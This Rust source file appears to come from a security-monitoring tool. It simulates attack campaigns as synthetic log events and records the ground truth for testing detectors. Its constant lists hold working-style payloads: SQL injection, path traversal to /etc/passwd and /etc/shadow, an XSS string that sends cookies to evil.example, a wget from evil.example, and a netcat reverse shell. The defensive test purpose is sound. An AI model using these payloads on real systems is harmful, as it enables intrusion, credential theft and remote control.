//! Attack campaigns: planned at the start, so that the truth is known before the first event.

use chrono::{DateTime, Duration, Utc};
use serde::{Deserialize, Serialize};
use watchpost_model::event::{Category, Entity, EntityKind, Event, Http, Outcome, Severity};
use watchpost_model::finding::AttackFamily;
use watchpost_model::words;

use super::rng::Rng;
use super::world::{Person, event_id};

/// What an attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CampaignKind {
    /// One address, one user, many passwords.
    BruteForce,
    /// One address, many users, and one password that fits.
    SprayingThenSuccess,
    /// SQL injection in parameters.
    Sqli,
    /// Scripts in parameters.
    Xss,
    /// Paths out of the web root.
    Traversal,
    /// Commands in parameters.
    Cmdi,
    /// A scanning tool with its own name.
    Scanner,
    /// The whole catalogue, page by page, fast.
    Scraping,
}

words!(CampaignKind {
    BruteForce = "brute_force",
    SprayingThenSuccess = "spraying_then_success",
    Sqli = "sqli",
    Xss = "xss",
    Traversal = "traversal",
    Cmdi = "cmdi",
    Scanner = "scanner",
    Scraping = "scraping",
});

impl CampaignKind {
    /// The family that a detector should name.
    #[must_use]
    pub const fn family(self) -> AttackFamily {
        match self {
            Self::BruteForce | Self::SprayingThenSuccess => AttackFamily::BruteForce,
            Self::Sqli => AttackFamily::Sqli,
            Self::Xss => AttackFamily::Xss,
            Self::Traversal => AttackFamily::Traversal,
            Self::Cmdi => AttackFamily::Cmdi,
            Self::Scanner => AttackFamily::Scanner,
            Self::Scraping => AttackFamily::ExcessiveRequests,
        }
    }

    /// Fewest and most events, and milliseconds from one to the next.
    const fn size(self) -> (u64, u64, u64) {
        match self {
            Self::BruteForce => (40, 240, 2_500),
            Self::SprayingThenSuccess => (20, 60, 15_000),
            Self::Sqli | Self::Xss | Self::Traversal | Self::Cmdi => (20, 60, 4_000),
            Self::Scanner => (200, 600, 180),
            Self::Scraping => (400, 1_200, 250),
        }
    }
}

/// What really happened in one campaign.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CampaignTruth {
    /// What it was.
    pub kind: CampaignKind,
    /// The family that a detector should name.
    pub family: AttackFamily,
    /// Who did it.
    pub entity: Entity,
    /// Time of the first event.
    pub from: DateTime<Utc>,
    /// Time of the last event.
    pub to: DateTime<Utc>,
    /// How many events it is.
    pub events: u64,
}

/// Everything that an analyst should find.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Truth {
    /// The seed that made it.
    pub seed: u64,
    /// Start of the simulated time.
    pub from: DateTime<Utc>,
    /// End of it, exclusive.
    pub to: DateTime<Utc>,
    /// The campaigns, by start.
    pub campaigns: Vec<CampaignTruth>,
}

const SQLI: &[&str] = &[
    "1%27%20OR%20%271%27=%271",
    "1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "1%27;%20DROP%20TABLE%20orders--",
    "1%20AND%20SLEEP(5)",
    "1%2527%20or%20%2527a%2527=%2527a",
    "-1%20union/**/all/**/select%20null,version()--",
    "1%27%20and%20extractvalue(1,concat(0x7e,(select%20user())))--",
    "admin%27--",
    "1)%20or%20(1=1",
    "1%20order%20by%2012--",
];
const XSS: &[&str] = &[
    "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%3Csvg/onload=fetch(%27//evil.example/%27%2Bdocument.cookie)%3E",
    "javascript:alert(1)",
    "%27;alert(String.fromCharCode(88))//",
    "%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
    "%3Ciframe%20src=javascript:alert(1)%3E",
];
const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "%252e%252e%252f%252e%252e%252fetc/hosts",
    "....//....//....//etc/passwd",
    "/proc/self/environ",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
];
const CMDI: &[&str] = &[
    "127.0.0.1;id",
    "127.0.0.1%20%7C%20cat%20/etc/passwd",
    "$(whoami)",
    "%60uname%20-a%60",
    "x%26%26wget%20http://evil.example/x.sh",
    "127.0.0.1;nc%20-e%20/bin/sh%20203.0.113.9%204444",
    "a;cat%24%7BIFS%7D/etc/issue",
    "%7C%7Cping%20-c%2010%20127.0.0.1",
];
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/wp-login.php",
    "/actuator/env",
    "/server-status",
    "/backup.sql",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/manager/html",
    "/cgi-bin/test.cgi",
    "/owa/auth.owa",
    "/old/",
    "/test.php",
];
const TOOLS: &[&str] = &[
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
];
const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

const DAY_MS: u64 = 86_400_000;

/// One campaign: its plan and where it stands.
#[derive(Debug, Clone)]
pub(super) struct Campaign {
    pub(super) truth: CampaignTruth,
    address: String,
    agent: &'static str,
    victims: Vec<String>,
    rng: Rng,
    every_ms: u64,
    n_done: u64,
}

impl Campaign {
    /// The campaign of this number, somewhere between `from` and `to`.
    pub(super) fn plan(
        seed: u64,
        number: u32,
        from: DateTime<Utc>,
        to: DateTime<Utc>,
        people: &[Person],
    ) -> Option<Self> {
        let mut rng = Rng::new(seed, 0x8000_0000_0000 + u64::from(number));
        let kind = CampaignKind::ALL[number as usize % CampaignKind::ALL.len()];
        let (least, most, every_ms) = kind.size();
        let span_ms = u64::try_from((to - from).num_milliseconds()).ok()?;
        // At most half of the time there is, so that a short simulation holds whole campaigns too.
        let n_events = rng.between(least, most).min(span_ms / 2 / every_ms);
        if n_events < least.min(12) {
            return None;
        }
        let length_ms = n_events * every_ms;
        // Every third one lies in the last day: who looks at a simulation that ends now looks at that day first.
        let recent_ms = if number % 3 == 2 { span_ms.min(DAY_MS).max(length_ms + 1) } else { span_ms };
        let before_ms = span_ms - recent_ms + rng.below(recent_ms - length_ms);
        let start = from + Duration::milliseconds(i64::try_from(before_ms).ok()?);
        let address = address(&mut rng, number);
        let agent = if kind == CampaignKind::Scanner { *rng.pick(TOOLS) } else { BROWSER };
        let n_victims = if kind == CampaignKind::SprayingThenSuccess { 60 } else { 1 };
        let victims = (0..n_victims)
            .map(|n| match people.get(usize::try_from(rng.below(people.len() as u64)).unwrap_or(0)) {
                Some(person) if n % 3 == 0 => person.name.clone(),
                _ => format!(
                    "{}{n}",
                    rng.pick(&["admin", "info", "sales", "support", "test", "backup", "root"])
                ),
            })
            .collect();
        let last = start + Duration::milliseconds(i64::try_from((n_events - 1) * every_ms).ok()?);
        let entity = Entity::new(EntityKind::Ip, address.clone());
        let truth =
            CampaignTruth { kind, family: kind.family(), entity, from: start, to: last, events: n_events };
        Some(Self { truth, address, agent, victims, rng, every_ms, n_done: 0 })
    }

    /// Time of the next event, if there is one.
    pub(super) fn next_at(&self) -> Option<DateTime<Utc>> {
        let after = i64::try_from(self.n_done * self.every_ms).ok()?;
        (self.n_done < self.truth.events).then(|| self.truth.from + Duration::milliseconds(after))
    }

    /// The next event.
    pub(super) fn next(&mut self) -> Option<Event> {
        let at = self.next_at()?;
        let is_last = self.n_done + 1 == self.truth.events;
        let nth = self.n_done;
        self.n_done += 1;
        let mut event = match self.truth.kind {
            CampaignKind::BruteForce => self.login(at, 0, false),
            CampaignKind::SprayingThenSuccess => self.login(at, nth, is_last),
            CampaignKind::Sqli => self.probe(at, "/api/products", "id", SQLI),
            CampaignKind::Xss => self.probe(at, "/search", "q", XSS),
            CampaignKind::Traversal => self.probe(at, "/download", "file", TRAVERSAL),
            CampaignKind::Cmdi => self.probe(at, "/admin/ping", "host", CMDI),
            CampaignKind::Scanner => {
                let path = (*self.rng.pick(PROBES)).to_owned();
                self.request(at, "GET", &path, None, 404)
            }
            CampaignKind::Scraping => {
                let path = format!("/api/products/{}", nth + 1);
                self.request(at, "GET", &path, None, 200)
            }
        };
        event.id = event_id(&mut self.rng, at);
        Some(event)
    }

    fn login(&mut self, at: DateTime<Utc>, nth: u64, is_success: bool) -> Event {
        let mut event = self.request(at, "POST", "/login", None, if is_success { 200 } else { 401 });
        event.category = Category::Authentication;
        event.kind = if is_success { "login_success" } else { "login_failure" }.to_owned();
        event.action = Some("login".to_owned());
        let victim = usize::try_from(nth).unwrap_or(0) % self.victims.len();
        event.actor = Some(self.victims[victim].clone());
        event
    }

    fn probe(&mut self, at: DateTime<Utc>, path: &str, parameter: &str, payloads: &[&str]) -> Event {
        let payload = *self.rng.pick(payloads);
        let status = *self.rng.pick(&[200, 200, 400, 403, 500]);
        self.request(at, "GET", path, Some(format!("{parameter}={payload}")), status)
    }

    fn request(
        &mut self,
        at: DateTime<Utc>,
        method: &str,
        path: &str,
        query: Option<String>,
        status: u16,
    ) -> Event {
        let id = watchpost_model::ids::EventId::derived(0, [0; 16]);
        let mut event = Event::new(id, at, Category::ApiUsage, "request");
        event.source_ip = Some(self.address.clone());
        event.outcome = if status < 400 { Outcome::Success } else { Outcome::Failure };
        event.severity = if status < 400 { Severity::Info } else { Severity::Low };
        event.http = Some(Http {
            method: method.to_owned(),
            path: path.to_owned(),
            query,
            headers: [("user-agent".to_owned(), self.agent.to_owned())].into(),
            status: Some(status),
            bytes: Some(self.rng.between(180, 9_000)),
            duration_ms: Some(self.rng.between(3, 120)),
            ..Http::default()
        });
        event
    }
}

/// Mostly from the ranges for documentation; some from ranges that look like hosting. One address a campaign.
fn address(rng: &mut Rng, number: u32) -> String {
    let last = number % 250 + 2;
    match rng.below(6) {
        0 => format!("203.0.113.{last}"),
        1 => format!("198.51.100.{last}"),
        2 => format!("192.0.2.{last}"),
        3 => format!("185.220.{}.{last}", 100 + number / 250 % 100),
        4 => format!("45.155.{}.{last}", 200 + number / 250 % 50),
        _ => format!("2001:db8:{:x}::{number:x}", rng.between(1, 0xffff)),
    }
}
